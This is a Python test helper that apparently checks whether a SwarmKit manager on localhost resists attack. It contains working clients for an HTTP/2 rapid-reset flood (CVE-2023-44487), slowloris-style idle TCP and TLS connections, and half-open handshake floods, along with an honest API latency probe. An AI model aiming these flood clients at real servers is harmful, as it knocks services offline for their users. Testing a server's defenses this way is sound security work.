"""Crowds of clients that mean no good, made with OpenSSL, and one that is honest: for siege*.sh.

  reset PORT CONNECTIONS   HTTP/2 rapid reset (CVE-2023-44487) over and over, without certificate and
                           at full speed, until standard input ends and one of them at least was told
                           to calm down, or a minute later; then prints "resets N sent over
                           N connections, N told to calm down after at most N streams"
  quiet PORT COUNT         TCP connections that say nothing, from many addresses; prints "standing",
                           then "closed N within S" when the server has had enough
  silent PORT COUNT        the same with a TLS handshake before the silence
  hasty PORT COUNT         that many handshakes begun from one address at a time, until a hundred are
                           refused; prints "N of N refused, others N of 10"; refused is who got an
                           alert, the others come from elsewhere
  idle PORT CERTS COUNT    connections of a worker that only exist, resumed to be quick; prints
                           "standing", and holds them until standard input ends
  api SOCKET PATH SECONDS  an honest user of the HTTP API on a unix socket, one request after the
                           other; prints "p50_us N p99_us N calls N"
"""
import http.client
import select
import socket
import ssl
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
GOAWAY, CALM = 7, 0xb
TRICKLE = 0.05  # between two connections of one attacker


def text(value):
    return bytes([len(value)]) + value


# A call that anybody may make: POST, https, and literals without indexing.
HEADERS = (b"\x83\x87\x04" + text(b"/docker.swarmkit.v1.CA/GetRootCACertificate") +
           b"\x01" + text(b"swarm-manager") + b"\x0f\x10" + text(b"application/grpc") +
           b"\x00" + text(b"te") + text(b"trailers"))


def context(certs=None):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.maximum_version = ssl.TLSVersion.TLSv1_2
    made.set_alpn_protocols(["h2"])
    if certs:
        made.load_cert_chain(f"{certs}/client.pem", f"{certs}/client.key")
    return made


def connect(made, port, source, session=None):
    plain = socket.create_connection(("127.0.0.1", int(port)), 20, (source, 0))
    return made.wrap_socket(plain, session=session)


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def goaway_of(received):
    """The streams that were taken and the error of a GOAWAY among whole frames, or None."""
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if received[3] == GOAWAY and len(received) >= 17:
            last = int.from_bytes(received[9:13], "big")
            return (last + 1) // 2, int.from_bytes(received[13:17], "big")
        received = received[9 + length:]
    return None


def attack(made, port, source, ended):
    """One connection until it is cut: resets sent, and what its GOAWAY said."""
    stream, received = 1, b""
    try:
        with connect(made, port, source) as tls:
            tls.sendall(PREFACE)
            tls.settimeout(5)
            while not ended.is_set():
                batch = b""
                for _ in range(50):
                    batch += frame(1, 4, stream, HEADERS) + frame(3, 0, stream, b"\0\0\0\x08")
                    stream += 2
                tls.sendall(batch)
                if len(received) < 1 << 16 and select.select([tls], [], [], 0)[0]:
                    received += tls.recv(1 << 16)
    except OSError:
        pass
    return stream // 2, goaway_of(received)


def reset(port, connections):
    ended, lock = threading.Event(), threading.Lock()
    sums = {"resets": 0, "connections": 0, "calm": 0, "most": 0}

    def keep_on(source):
        made = context()
        while not ended.is_set():
            resets, said = attack(made, port, source, ended)
            with lock:
                sums["resets"] += resets
                sums["connections"] += resets > 0
                if said and said[1] == CALM:
                    sums["calm"] += 1
                    sums["most"] = max(sums["most"], said[0])
            time.sleep(TRICKLE)

    threads = [threading.Thread(target=keep_on, args=(f"127.0.0.{2 + i}",), daemon=True)
               for i in range(int(connections))]
    for thread in threads:
        thread.start()
    print("standing", flush=True)
    sys.stdin.read()
    # Who is cut in the middle of sending does not always get to read why.
    end = time.monotonic() + 60
    while sums["calm"] == 0 and time.monotonic() < end:
        time.sleep(0.05)
    ended.set()
    for thread in threads:
        thread.join(60)
    print(f"resets {sums['resets']} sent over {sums['connections']} connections, {sums['calm']} told to"
          f" calm down after at most {sums['most']} streams")


def watch_closing(held):
    """Says how many of these sockets the other side closes, and how soon."""
    poll = select.poll()
    for each in held:
        each.setblocking(False)
        poll.register(each, select.POLLIN)
    print("standing", flush=True)
    start, open_ones = time.monotonic(), {each.fileno(): each for each in held}
    while open_ones and time.monotonic() - start < 60:
        for number, _ in poll.poll(1000):
            try:
                gone = not open_ones[number].recv(4096)
            except ssl.SSLWantReadError:
                gone = False
            except OSError:
                gone = True
            if gone:
                poll.unregister(number)
                open_ones.pop(number).close()
    print(f"closed {len(held) - len(open_ones)} within {time.monotonic() - start:.1f}")


def quiet(port, count):
    watch_closing([socket.create_connection(("127.0.0.1", int(port)), 20, (f"127.0.2.{1 + i % 20}", 0))
                   for i in range(int(count))])


def silent(port, count):
    made = context()
    watch_closing([connect(made, port, f"127.0.2.{1 + i % 20}") for i in range(int(count))])


def hasty(port, count):
    def begin(source):
        plain = socket.create_connection(("127.0.0.1", int(port)), 20, (source, 0))
        plain.sendall(b"\x16\x03\x01\x01\x00")  # of a hello that does not come
        return plain

    # A second lets some more in, so a slow machine needs another try.
    refused, tried, served = 0, 0, None
    while refused < 100 and tried < 20 * int(count):
        held = {plain.fileno(): plain for plain in (begin("127.0.4.1") for _ in range(int(count)))}
        tried += len(held)
        if served is None:
            served = sum(connect(context(), port, f"127.0.5.{1 + i}").version() == "TLSv1.2" for i in range(10))
        poll = select.poll()
        for number in held:
            poll.register(number, select.POLLIN)
        end = time.monotonic() + 3
        while refused < 100 and time.monotonic() < end:
            for number, _ in poll.poll(200):
                poll.unregister(number)
                try:
                    refused += held[number].recv(16) == b"\x15\x03\x03\0\2\2\x31"
                except OSError:
                    pass
        for plain in held.values():
            plain.close()
    print(f"{refused} of {tried} refused, others {served} of 10")


def api(path, target, seconds):
    class Unix(http.client.HTTPConnection):
        def connect(self):
            self.sock = socket.socket(socket.AF_UNIX)
            self.sock.settimeout(60)
            self.sock.connect(path)

    client, took = Unix("localhost"), []
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        start = time.monotonic()
        client.request("GET", target)
        answer = client.getresponse()
        answer.read()
        if answer.status != 200:
            raise SystemExit(f"{target}: {answer.status}")
        took.append(time.monotonic() - start)
    took.sort()
    print(f"p50_us {took[len(took) // 2] * 1e6:.0f} p99_us {took[len(took) * 99 // 100] * 1e6:.0f}"
          f" calls {len(took)}")


def idle(port, certs, count):
    made = context(certs)
    first = connect(made, port, "127.0.0.1")
    held = [first]
    resumed = 0
    for i in range(int(count) - 1):
        tls = connect(made, port, f"127.0.3.{1 + i % 100}", first.session)
        resumed += tls.session_reused
        held.append(tls)
    print(f"standing resumed {resumed}", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    {each.__name__: each for each in (reset, quiet, silent, hasty, idle, api)}[sys.argv[1]](
        *sys.argv[2:])
